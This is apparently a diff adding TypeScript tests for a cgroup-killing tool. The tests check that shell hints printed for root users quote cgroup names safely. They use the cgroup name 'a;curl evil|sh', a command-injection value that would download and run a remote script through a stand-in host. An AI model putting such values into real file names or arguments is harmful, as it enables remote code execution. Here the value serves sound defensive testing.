@@ -1,0 +1,74 @@
+// Hints are made to be pasted into a root shell, and the names in them are given by whoever made the cgroup: each is one
+// quoted word.
+
+import { expect, test } from "bun:test";
+
+import { findHierarchies } from "../../src/cgroup/hierarchy.ts";
+import { openCgroup } from "../../src/cgroup/path.ts";
+import { endingOfKill } from "../../src/kill/outcome.ts";
+import { planKill } from "../../src/kill/plan.ts";
+import { newRun } from "../../src/kill/run.ts";
+import { executeThaw } from "../../src/kill/switch.ts";
+import { DEFAULT_OPTIONS } from "../../src/kill/types.ts";
+import { FakeKernel } from "../support/fake-kernel.ts";
+import { kill, model } from "../support/model.ts";
+
+const EVIL = "a;curl evil|sh";
+const TOP = "/sys/fs/cgroup/freezer";
+const QUOTED = `'${TOP}/${EVIL}'`;
+
+/** A target below a frozen cgroup of that name. */
+function below() {
+  const kernel = new FakeKernel();
+  kernel.addProcess({ group: kernel.makeGroup("freezer", `${EVIL}/target`), which: "freezer" });
+  kernel.makeGroup("freezer", EVIL).isSwitchedOn = true;
+  const plan = () =>
+    planKill(kernel, openCgroup(kernel, findHierarchies(kernel), `${TOP}/${EVIL}/target`), DEFAULT_OPTIONS);
+  const ctx = { deadline: kernel.now() + 100, abort: new AbortController().signal, onEvent: () => {} };
+  return { kernel, plan, ctx };
+}
+
+test("a survivor that is frozen elsewhere", async () => {
+  const on = model("kill");
+  const group = on.kernel.makeGroup("freezer", EVIL);
+  group.isSwitchedOn = true;
+  on.kernel.addProcess({ group: on.target, which: "v2" }).groups.set(on.kernel.hierarchy("freezer"), group);
+  on.kernel.failNext("write", /freezer\/cgroup\.procs$/, "EACCES", Number.POSITIVE_INFINITY);
+  const { outcome } = await kill(on);
+  expect(outcome.survivors.map(({ hint }) => hint)).toEqual([`thaw it, and it dies: cgkill thaw ${QUOTED}`]);
+});
+
+test("a target below a frozen ancestor: refused, where nobody can be moved out", () => {
+  const { kernel, plan } = below();
+  kernel.isWritable = () => false;
+  expect(plan().refusal?.hint).toStartWith(`thaw it: cgkill thaw ${QUOTED}, or `);
+});
+
+test("a thaw below a frozen ancestor", async () => {
+  const { kernel, plan, ctx } = below();
+  const { error } = await executeThaw(kernel, plan(), ctx);
+  expect(error).toMatchObject({ code: "frozen-ancestor", hint: `cgkill thaw ${QUOTED}` });
+});
+
+test("a cgroup that could not be thawed", () => {
+  const { kernel, plan, ctx } = below();
+  const run = newRun(kernel, plan(), ctx);
+  run.leftFrozen.add(`${TOP}/${EVIL}`);
+  expect(endingOfKill(run, []).error?.hint).toBe(`thaw it: echo THAWED > '${TOP}/${EVIL}/freezer.state'`);
+});
+
+test("a threaded cgroup whose domain has to be named", () => {
+  const kernel = new FakeKernel();
+  const outside = kernel.makeGroup("v2", EVIL);
+  const target = kernel.makeGroup("v2", `${EVIL}/target`);
+  target.isThreaded = true;
+  kernel.addProcess({ group: target, which: "v2", otherThreads: [{ tid: 9000, group: outside }] });
+  const planned = planKill(
+    kernel,
+    openCgroup(kernel, findHierarchies(kernel), `/${EVIL}/target`, { hierarchy: "v2" }),
+    DEFAULT_OPTIONS,
+  );
+  expect(planned.refusal?.hint).toBe(
+    `name the cgroup that holds all of its threads: '${kernel.hierarchy("v2").point}/${EVIL}'`,
+  );
+});
